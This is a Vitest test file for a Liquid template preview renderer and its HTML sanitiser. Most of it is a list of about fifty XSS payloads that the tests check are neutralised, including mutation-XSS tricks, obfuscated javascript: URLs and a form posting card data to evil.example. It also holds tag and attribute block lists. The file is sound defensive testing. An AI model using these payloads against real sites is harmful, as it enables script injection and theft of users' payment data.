import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { TemplatePreviewError, renderPreview } from '../../../../main/template';
import { sanitizeHtml } from '../../../../main/template/sanitize';

const CORPUS = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../templates');
const corpus = (name: string): string => readFileSync(path.join(CORPUS, `${name}.liquid`), 'utf8');

/** Every tag name and attribute name in sanitised output (which is well-formed by construction). */
function markupOf(html: string): { tags: string[]; attributes: string[]; urls: string[] } {
  const tags: string[] = [];
  const attributes: string[] = [];
  const urls: string[] = [];
  for (const [, name = '', attrs = ''] of html.matchAll(/<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    tags.push(name);
    for (const [, attr = '', value = ''] of attrs.matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/g)) {
      attributes.push(attr);
      if (attr === 'href' || attr === 'src') urls.push(value);
    }
  }
  return { tags, attributes, urls };
}

describe('renderPreview', () => {
  it('renders the Stripe branches for a developer with a billing address: the card form', async () => {
    const html = await renderPreview(corpus('default'), { hasBillingAddress: true });
    expect(html).toContain('<div class="portal-placeholder">[3scale Stripe card form: Edit Credit Card Details]</div>');
    expect(html).not.toContain('After entering billing address');
    expect(html).toContain('<div class="portal-placeholder">[3scale partial: users_menu]</div>');
    expect(html).toContain('Edit billing address');
    expect(html).not.toContain('Braintree');
    expect(html).not.toContain('{%');
  });

  it('renders the Stripe branches for a developer without one: the notice instead of the form', async () => {
    const html = await renderPreview(corpus('default'), { hasBillingAddress: false });
    expect(html).not.toContain('[3scale Stripe card form');
    expect(html).toContain('<p>After entering billing address, the option to enter credit card will be enabled.</p>');
  });

  it('renders the fixed legacy template with the Stripe branch it gained', async () => {
    const before = await renderPreview(corpus('legacy-braintree-authorize'), { hasBillingAddress: true });
    expect(before).not.toContain('[3scale Stripe card form');
    const after = await renderPreview(readFileSync(path.join(CORPUS, 'legacy-braintree-authorize.fixed.liquid'), 'utf8'), {
      hasBillingAddress: true,
    });
    expect(after).toContain('[3scale Stripe card form');
  });

  it('makes every link and source inert', async () => {
    const html = await renderPreview(corpus('default'), { hasBillingAddress: true });
    const { urls } = markupOf(html);
    expect(urls.length).toBeGreaterThan(0);
    expect(new Set(urls)).toEqual(new Set(['#']));
  });

  it('refuses a template that does not parse, saying where', async () => {
    const failure = renderPreview(corpus('broken-unclosed'), { hasBillingAddress: true });
    await expect(failure).rejects.toBeInstanceOf(TemplatePreviewError);
    await expect(failure).rejects.toMatchObject({ parseError: { line: 6, column: 5 } });
  });

  it('stops a template that would run away instead of hanging', async () => {
    const source = '{% assign a = "x" %}{% for i in (1..40) %}{% assign a = a | append: a %}{% endfor %}{{ a | size }}';
    await expect(renderPreview(source, { hasBillingAddress: true })).rejects.toThrow(
      /The preview was stopped: the template builds more than 64 MB of text\. Look for a string that doubles itself\./,
    );
  });

  it('stops a template whose output passes the bound, saying so (issue 14 finding 4: 503 characters rendered 267 million)', async () => {
    const source = `{% assign s = "${'x'.repeat(1000)}" %}{% for i in (1..3000) %}{{ s }}{% endfor %}`;
    await expect(renderPreview(source, { hasBillingAddress: true })).rejects.toThrow(
      /The preview was stopped: the template renders more than 2,000,000 characters/,
    );
  });

  it('sanitises what the template itself writes', async () => {
    const html = await renderPreview(
      '<script>alert(1)</script><img src="https://evil.example/x.png" onerror="alert(2)">{% stripe_form "<b onclick=x>Pay</b>" %}',
      { hasBillingAddress: true },
    );
    expect(html).toBe(
      '<span class="portal-placeholder">[image]</span><div class="portal-placeholder">[3scale Stripe card form: &lt;b onclick=x&gt;Pay&lt;/b&gt;]</div>',
    );
  });
});

describe('sanitizeHtml', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script>if (a < b) { document.write("</p><img src=x onerror=alert(1)>") }</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" ONERROR="alert(1)" onload=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \tjava&#x09;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="https://evil.example/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<style>body{background:url(https://evil.example/x)}</style>',
    '<div style="background:url(https://evil.example/x)">styled</div>',
    '<form action="https://evil.example/steal" method="post"><input name="card" formaction="https://evil.example/"><button formaction="https://evil.example/">Pay</button></form>',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<input type="image" src="https://evil.example/x.png" onfocus=alert(1) autofocus>',
    '<video><source onerror=alert(1)></video>',
    '<!--<img src=x onerror=alert(1)>-->',
    '<!--> <img src=x onerror=alert(1)> -->',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title></title><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://evil.example/" target=_blank rel=opener ping="https://evil.example/">x</a>',
    '<img srcset="https://evil.example/a.png 1x">',
    '<p <script>alert(1)</script>>',
    '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<div id=x tabindex=1 onfocus=alert(1)></div>',
    '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
    '<img src="x" alt=\'" onerror="alert(1)\'>',
    // SVG and MathML namespace-confusion (mutation XSS) payloads.
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    // CSS and refresh.
    '<div style="width: expression(alert(1))">ie</div>',
    '<p class="x" style="position:fixed;inset:0;z-index:99999">overlay</p>',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=javascript:alert(1)">',
  ];

  it.each(hostile)('leaves nothing active in %s', (input) => {
    const output = sanitizeHtml(input);
    const { tags, attributes, urls } = markupOf(output);
    for (const tag of tags) {
      expect(['script', 'iframe', 'object', 'embed', 'link', 'meta', 'base', 'style', 'svg', 'math', 'body', 'video', 'source']).not.toContain(tag);
    }
    for (const attribute of attributes) {
      expect(attribute).not.toMatch(/^on/);
      expect(['style', 'action', 'formaction', 'srcset', 'srcdoc', 'data', 'xlink:href', 'target', 'ping', 'rel', 'autofocus']).not.toContain(attribute);
    }
    for (const url of urls) expect(url).toMatch(/^#/);
    // No markup from the input survives as markup: what is left of "<" is escaped text.
    expect(output.replace(/<\/?[a-z0-9]+(?:\s+[a-z-]+(?:="[^"<>]*")?)*\s*\/?>/g, '')).not.toMatch(/[<>]/);
    expect(output).not.toMatch(/<script|javascript:|evil\.example\/[^"]*"/i);
  });

  it('keeps ordinary markup, with its allowed attributes', () => {
    expect(
      sanitizeHtml(
        '<div class="panel" id="p1" style="color:red"><h3>Pay &amp; go</h3><p title="Note">Cards: Visa &mdash; 3 < 4 & 5 > 2</p>' +
          '<a href="#terms" class="x">Terms</a><br/><table><tr><td colspan="2">1</td></tr></table></div>',
      ),
    ).toBe(
      '<div class="panel" id="p1"><h3>Pay &amp; go</h3><p title="Note">Cards: Visa — 3 &lt; 4 &amp; 5 &gt; 2</p>' +
        '<a href="#terms" class="x">Terms</a><br /><table><tr><td colspan="2">1</td></tr></table></div>',
    );
  });

  it('keeps a form but not where it would send anything', () => {
    expect(sanitizeHtml('<form action="https://x.example/" method="post" name="card"><input type="text" name="n" value="a&quot;b"></form>')).toBe(
      '<form name="card"><input type="text" name="n" value="a&quot;b" /></form>',
    );
  });

  it('drops comments, doctypes and unknown tags but keeps their text', () => {
    expect(sanitizeHtml('<!DOCTYPE html><!-- note --><center>Hi <font color=red>there</font></center><?xml x?>')).toBe('Hi there');
  });

  it('drops a tag cut off at the end of the input', () => {
    expect(sanitizeHtml('<p>ok</p><img src="x" onerror="alert(1)')).toBe('<p>ok</p>');
  });
});
